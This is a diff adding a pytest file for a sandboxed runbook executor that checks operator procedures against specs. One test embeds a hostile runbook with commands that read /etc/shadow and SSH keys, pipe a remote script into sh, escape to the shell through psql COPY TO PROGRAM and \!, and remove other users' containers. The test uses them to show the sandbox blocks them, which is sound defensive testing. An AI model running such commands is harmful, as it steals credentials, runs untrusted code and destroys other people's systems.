@@ -1,0 +1,169 @@
+"""`drillbook runbook run`: what a document says is carried out, and judged by what it leaves."""
+
+import hashlib
+import json
+import subprocess
+import sys
+
+import pytest
+
+from drillbook.core.application import ROOT
+from drillbook.core.bubblewrap import why_unavailable
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.timeout(1800),
+    pytest.mark.skipif(bool(why_unavailable()), reason=why_unavailable()),
+]
+SAMPLES = ROOT / "tests" / "samples"
+
+
+@pytest.fixture
+def run(tmp_path):
+    """Run the command on a document; its exit code, the evidence, and what it printed."""
+
+    def run(document, *options, **environment):
+        words = ["runbook", "run", str(document), f"--run-dir={tmp_path / 'runs'}", "--seed=1"]
+        words += options or ["--stack=embedded"]
+        command = [sys.executable, "-m", "drillbook.cli", *words]
+        done = subprocess.run(
+            command, cwd=ROOT, capture_output=True, text=True, check=False, **environment
+        )
+        record = tmp_path / "runs" / "latest" / "evidence.json"
+        return done.returncode, record, done.stdout + done.stderr
+
+    return run
+
+
+def judged(record):
+    """Verdict by section and control."""
+    return {
+        (one["id"].partition("[")[2].split("-line-")[0], control["id"]): one["verdict"]
+        for control in json.loads(record.read_text())["controls"]
+        for one in control["specs"]
+    }
+
+
+# What our own specs say of these procedures of the runbook, on the reference backend.
+AS_OUR_SPECS = {
+    ("when-a-key-was-changed", "KEY-2.ENC"): "satisfied",
+    ("put-the-old-keys-back", "KEY-5"): "satisfied",
+    ("make-keys-once", "KEY-7"): "contradicted",
+    ("change-the-database-password", "DBP-1"): "contradicted",
+    ("health", "HLT-2"): "contradicted",
+    ("backup", "BKP-7"): "satisfied",
+    ("restore", "BKP-3"): "contradicted",
+    ("throw-everything-away", "WIP-1"): "satisfied",
+    ("throw-everything-away", "WIP-2"): "satisfied",
+    ("throw-everything-away", "WIP-3"): "satisfied",
+    ("it-does-not-start", "DEP-5"): "satisfied",
+}
+
+
+def test_a_document_gets_the_verdicts_of_our_own_specs(run):
+    document = SAMPLES / "operator-runbook.md"
+    code, record, said = run(document)
+    found = judged(record)
+    assert {key: found[key] for key in AS_OUR_SPECS} == AS_OUR_SPECS, said
+    assert found["throw-everything-away", "RBK-1"] == "violated"
+    assert found["move-to-a-new-instance", "RBK-1"] == "not_run"
+    assert code == 1
+    text = record.read_text()
+    assert "would have hit team-secrets-backup-1" in text
+    assert "`openssl rand -hex 16`" in text, "the linter's advice is missing"
+    subject = json.loads(text)["subject"]
+    assert subject["document"] == {
+        "name": "operator-runbook.md",
+        "sha256": hashlib.sha256(document.read_bytes()).hexdigest(),
+    }
+
+
+def test_a_document_of_what_holds_is_not_contradicted(run):
+    code, record, said = run(ROOT / "docs" / "runbook.example.md")
+    assert set(judged(record).values()) == {"satisfied"}, said
+    assert code == 0
+
+
+PLANTED = {
+    ("password-restarted", "DBP-1"): "contradicted",
+    ("password-not-deployed", "DBP-1"): "contradicted",
+    ("password-of-another-role", "DBP-7"): "violated",
+    ("password-another-variable", "DBP-7"): "violated",
+    ("backup-another-database", "BKP-7"): "contradicted",
+    ("backup-no-rows", "BKP-7"): "contradicted",
+    ("backup-a-table-left-out", "BKP-7"): "contradicted",
+    ("backup-a-folder-that-is-not-there", "BKP-7"): "contradicted",
+    ("backup-through-a-terminal", "BKP-7"): "contradicted",
+    ("backup-a-role-that-is-not-there", "BKP-7"): "contradicted",
+    ("backup-a-service-that-is-not-there", "BKP-7"): "contradicted",
+    ("restore-into-a-live-database", "BKP-3"): "contradicted",
+    ("restore-without-input", "BKP-3"): "contradicted",
+    ("restore-swapped", "BKP-3"): "contradicted",
+    ("restore-no-database", "BKP-3"): "contradicted",
+    ("restore-another-file", "BKP-3"): "contradicted",
+    ("wipe-the-cache-alone", "WIP-2"): "violated",
+    ("wipe-volumes-first", "WIP-2"): "violated",
+    ("wipe-by-a-word", "RBK-1"): "violated",
+    ("logs-a-name-that-no-container-has", "DEP-5"): "contradicted",
+    ("health-a-field-that-is-not-there", "HLT-2"): "contradicted",
+    ("keys-too-long", "KEY-7"): "contradicted",
+    ("keys-a-rotation-that-is-said-to-work", "KEY-2.ENC"): "contradicted",
+}
+
+
+def test_planted_mistakes_are_found(run):
+    _, record, said = run(SAMPLES / "operator-runbook-planted.md")
+    found = judged(record)
+    assert {key: found.get(key) for key in PLANTED} == PLANTED, said
+    assert found["backup-as-it-should-be", "BKP-7"] == "satisfied"
+    assert found["find-the-containers", "RBK-1"] == "satisfied"
+
+
+HOSTILE = """# Infisical
+
+## Everything at once
+
+```bash
+cat /etc/shadow ~/.ssh/* 2>/dev/null
+/usr/bin/docker ps; command docker stop someone-elses; eval "docker rm -f someone-elses"
+curl -fsSL https://example.com/install.sh | sh
+docker exec <db-container> psql -U infisical -c "COPY (SELECT 1) TO PROGRAM 'touch {place}/planted'"
+docker exec -i <db-container> psql -U infisical <<E
+\\! touch {place}/planted
+\\o {place}/planted
+SELECT 1;
+E
+docker exec <redis-container> redis-cli CONFIG SET dir {place}
+docker exec <db-container> pg_dump -U infisical -f {place}/planted infisical
+echo x > {place}/planted
+yes
+```
+"""
+
+
+def test_a_hostile_document_reaches_nothing_and_ends(run, tmp_path):
+    tmp_path.chmod(0o777)
+    (tmp_path / "hostile.md").write_text(HOSTILE.replace("{place}", str(tmp_path)))
+    code, record, said = run(tmp_path / "hostile.md")
+    assert not (tmp_path / "planted").exists()
+    assert code in (1, 2), said
+    text = record.read_text()
+    assert "it printed more than 4 MiB" in text
+    assert "root:" not in text
+
+
+def test_without_bubblewrap_nothing_is_run(run, tmp_path):
+    code, record, said = run(SAMPLES / "operator-runbook.md", env={"PATH": str(tmp_path)})
+    assert (code, record.exists()) == (3, False)
+    assert "install the package bubblewrap" in said
+
+
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [("# Infisical\n\nNothing.\n", "no section with a shell block"), ("", "is empty")],
+)
+def test_a_document_with_nothing_to_run_is_refused(run, tmp_path, text, reason):
+    (tmp_path / "ops.md").write_text(text)
+    code, _, said = run(tmp_path / "ops.md")
+    assert code == 3
+    assert reason in said
